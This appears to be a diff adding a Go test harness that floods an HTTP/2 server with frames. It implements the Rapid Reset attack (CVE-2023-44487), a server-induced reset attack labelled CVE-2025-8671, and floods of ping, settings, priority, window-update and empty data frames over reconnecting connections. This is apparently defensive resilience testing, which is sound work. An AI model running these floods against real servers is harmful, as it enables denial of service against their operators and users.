@@ -1,0 +1,112 @@
+// SPDX-License-Identifier: Apache-2.0
+
+package siege
+
+import (
+	"bytes"
+	"flag"
+	"io"
+	"net"
+	"time"
+
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
+)
+
+// lasting is how long a flood of frames lasts.
+var lasting = flag.Duration("lasting", 5*time.Second, "used by the test itself: how long a flood of frames lasts")
+
+// frames writes some frames of a flood, with streams from next on, and gives the stream after them.
+type frames func(framer *http2.Framer, block []byte, next uint32) uint32
+
+// floods are what a client may send for as long as it likes, as far as frames go. The connection
+// has a
+// request before them whose body does not end, on stream 1.
+var floods = map[string]frames{
+	// CVE-2023-44487: streams that are opened and reset at once.
+	"resets": func(framer *http2.Framer, block []byte, next uint32) uint32 {
+		_ = framer.WriteHeaders(http2.HeadersFrameParam{StreamID: next, BlockFragment: block, EndStream: true, EndHeaders: true})
+		_ = framer.WriteRSTStream(next, http2.ErrCodeCancel)
+		return next + 2
+	},
+	// CVE-2025-8671: streams that the client has the server reset.
+	"faults": func(framer *http2.Framer, block []byte, next uint32) uint32 {
+		_ = framer.WriteHeaders(http2.HeadersFrameParam{StreamID: next, BlockFragment: block, EndStream: true, EndHeaders: true})
+		_ = framer.WriteRawFrame(http2.FrameWindowUpdate, 0, next, []byte{0, 0, 0, 0})
+		return next + 2
+	},
+	"pings": func(framer *http2.Framer, _ []byte, next uint32) uint32 {
+		_ = framer.WritePing(false, [8]byte{})
+		return next
+	},
+	"settings": func(framer *http2.Framer, _ []byte, next uint32) uint32 {
+		_ = framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 16})
+		return next
+	},
+	"priorities": func(framer *http2.Framer, _ []byte, next uint32) uint32 {
+		_ = framer.WritePriority(1, http2.PriorityParam{StreamDep: 3, Weight: 7})
+		return next
+	},
+	"windows": func(framer *http2.Framer, _ []byte, next uint32) uint32 {
+		_ = framer.WriteWindowUpdate(1, 1)
+		return next
+	},
+	"nothings": func(framer *http2.Framer, _ []byte, next uint32) uint32 {
+		_ = framer.WriteData(1, false, nil)
+		return next
+	},
+	"bytes": func(framer *http2.Framer, _ []byte, next uint32) uint32 {
+		_ = framer.WriteData(1, false, []byte{'x'})
+		return next
+	},
+}
+
+// flood sends frames over a connection for its time, and over a new one when that is closed.
+func flood(of frames) func(index int) error {
+	return func(index int) error {
+		for end := time.Now().Add(*lasting); time.Now().Before(end); {
+			conn, err := dial(index, "h2")
+			if err != nil {
+				return err
+			}
+			asked.Add(1)
+			_ = conn.SetDeadline(end)
+			floodOne(conn, of)
+			_ = conn.Close()
+			if time.Now().Before(end) {
+				closed.Add(1)
+			}
+		}
+		return nil
+	}
+}
+
+func floodOne(conn net.Conn, of frames) {
+	go func() { _, _ = io.Copy(io.Discard, conn) }()
+	var batch bytes.Buffer
+	framer := http2.NewFramer(&batch, nil)
+	batch.WriteString(http2.ClientPreface)
+	_ = framer.WriteSettings()
+	_ = framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block("POST", "/held"), EndHeaders: true})
+	get, next := block("GET", "/"), uint32(3)
+	for {
+		for range 100 {
+			next = of(framer, get, next)
+			sent.Add(1)
+		}
+		if _, err := conn.Write(batch.Bytes()); err != nil {
+			return
+		}
+		batch.Reset()
+	}
+}
+
+// block is the header of a request, which needs nothing that was sent before.
+func block(method, path string) []byte {
+	var encoded bytes.Buffer
+	encoder := hpack.NewEncoder(&encoded)
+	for name, value := range map[string]string{":method": method, ":scheme": "https", ":authority": hostname, ":path": path} {
+		_ = encoder.WriteField(hpack.HeaderField{Name: name, Value: value, Sensitive: true})
+	}
+	return encoded.Bytes()
+}
